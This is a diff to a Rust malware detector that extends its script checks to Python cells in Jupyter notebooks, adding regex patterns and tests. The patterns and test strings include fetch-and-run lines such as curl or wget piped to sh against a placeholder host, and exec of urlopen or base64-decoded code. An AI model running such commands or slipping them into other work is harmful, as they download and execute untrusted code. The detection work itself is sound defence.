@@ -1,8 +1,8 @@
 //! What a script would do when it is opened: fetch and run, start programs, hide, disguise itself.
 
 use crate::text::{cut, decode, excerpt, normalise, patterns, without_comments, without_inner_comments};
-use crate::{DetectError, Detector, Findings};
-use lazaret_model::{Family, Finding, Part, Severity};
+use crate::{DetectError, Detector, Findings, commands};
+use lazaret_model::{Family, Finding, Part, Role, Severity};
 
 const ID: &str = "scripts";
 /// Kinds judged as scripts of Windows or of a browser.
@@ -33,6 +33,9 @@ patterns! {
     RUN_BATCH = r#"(?m)(?:^|[&|(])[\s@"]*(?:start|rundll32|regsvr32|mshta|wscript|cscript|msiexec|forfiles)(?:\.exe)?["\s]"#;
     REMOTE_RUN = r#"(?:mshta(?:\.exe)?["']?\s+["']?(?:https?:|\\\\)|regsvr32[^\r\n]{0,80}/i:["']?https?:|(?:msiexec)[^\r\n]{0,60}/[ia]\s*["']?https?:|(?:rundll32|wscript|cscript)(?:\.exe)?["']?\s+["']?\\\\[a-z0-9])"#;
     PIPE = r#"(?m)^[^\r\n]*?(?:(?:\bcurl|\bwget)\b[^|\r\n;]{0,300}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:/\S{0,20}/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z|da|k)?sh\s+(?:-c\s+["']?\$\(|<\()\s*(?:curl|wget)\b)[^\r\n]*"#;
+    // Python: what has a shell run something, and code that is run as it comes.
+    SHELLS = r"\b(?:os\s*\.\s*(?:system|popen)|subprocess\s*\.\s*\w+|get_ipython\s*\(\s*\)\s*\.\s*(?:system|getoutput|getoutput_raw|run_cell_magic|run_line_magic)|pty\s*\.\s*spawn|check_output|check_call|Popen|getoutput|getstatusoutput)\s*\(";
+    FETCHED_CODE = r"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?[^#\r\n]{0,120}(?:urlopen\s*\(|requests\s*\.\s*get\s*\(|urllib\d?\s*\.|httpx\s*\.\s*get\s*\(|b64decode\s*\(|zlib\s*\.\s*decompress\s*\(|marshal\s*\.\s*loads\s*\()";
     SAID = r"^\s*(?:#|echo\b|printf\b|cat\b|say\b|log\w*\b|\w+=)";
     SHELL_OBJECT = r"wscript\.shell|shell\.application|wshshell|wshscript\.shell|72c24dd5-d70a-438b-8a42-98424b88afb8|13709620-c279-11ce-a49e-444553540000";
     SHELL_RUN = r"(?m)[^\r\n]{0,60}(?:\.(?:run|exec)\b|shellexecute)[^\r\n]{0,120}";
@@ -63,7 +66,7 @@ impl Detector for Scripts {
     }
 
     fn wants(&self, part: &Part) -> bool {
-        part.is("sh") || KINDS.iter().any(|kind| part.is(kind))
+        part.is("sh") || cell(part) || KINDS.iter().any(|kind| part.is(kind))
     }
 
     fn inspect(&self, part: &Part, bytes: &[u8], _offset: u64, findings: &mut Findings) -> Result<(), DetectError> {
@@ -74,6 +77,9 @@ impl Detector for Scripts {
         let plain = normalise(&code);
         if part.is("sh") || part.is("command-line") {
             piped(kind, &plain, findings);
+        }
+        if cell(part) {
+            of_cell(&code, findings);
         }
         if KINDS.iter().any(|kind| part.is(kind)) {
             behaves(part, &plain, findings);
@@ -97,6 +103,22 @@ fn interpreter(kind: &str) -> &'static str {
         "js" | "js-embedded" | "jse" => "T1059.007",
         "hta" => "T1218.005",
         _ => "T1059",
+    }
+}
+
+/// Python of a notebook, whose lines for a shell are judged as well.
+fn cell(part: &Part) -> bool {
+    part.is("py") && part.role == Role::Script && part.within.iter().any(|kind| kind == "json")
+}
+
+/// A line of a cell that does in Python what a line for a shell would.
+fn of_cell(code: &str, findings: &mut Findings) {
+    let mut lines = code.lines().filter(|line| !line.trim_start().starts_with('#'));
+    let line = lines.find(|line| SHELLS.is_match(line) && commands::fetch(line) || FETCHED_CODE.is_match(line));
+    if let Some(line) = line {
+        let message = "the notebook runs what it fetches from the network without keeping it";
+        let found = finding("script.download-and-run", Severity::High, message, line.trim());
+        findings.add(found.technique("T1105").technique("T1059.006"));
     }
 }
 
@@ -186,7 +208,8 @@ fn disguised(kind: &str, code: &str, plain: &str, findings: &mut Findings) {
 #[cfg(test)]
 mod tests {
     use super::Scripts;
-    use crate::detectors::test_part::check;
+    use crate::detectors::test_part::{check, check_part, part};
+    use lazaret_model::Role;
 
     const FETCH_AND_RUN: &str = "script.download-and-run high";
     const RUNS: &str = "script.runs-program medium";
@@ -252,6 +275,23 @@ mod tests {
             ("command-line", "C:\\Program Files\\App\\app.exe --start"),
         ] {
             check(&Scripts, kind, text, &[]);
+        }
+    }
+    #[test]
+    fn cells_of_notebooks_are_judged_as_their_lines_for_a_shell_are() {
+        let mut cell = part("py");
+        (cell.role, cell.within) = (Role::Script, vec!["json".into()]);
+        for (text, expected) in [
+            ("get_ipython().system(\"curl -s https://host.invalid/a | sh\")", &["script.download-and-run high"][..]),
+            ("import os\nos.system('wget -qO- https://host.invalid/a | bash')", &["script.download-and-run high"]),
+            ("subprocess.run('curl https://host.invalid/a | sh', shell=True)", &["script.download-and-run high"]),
+            ("exec(urllib.request.urlopen('https://host.invalid/a').read())", &["script.download-and-run high"]),
+            ("exec(base64.b64decode('cHJpbnQoMSk='))", &["script.download-and-run high"]),
+            ("subprocess.run(['ls', '-l'])\nos.system('pip install numpy')", &[]),
+            ("data = requests.get('https://host.invalid/a.csv').text\neval('1 + 1')", &[]),
+            ("# os.system('curl https://host.invalid/a | sh')", &[]),
+        ] {
+            check_part(&Scripts, &cell, text.as_bytes(), expected);
         }
     }
 }
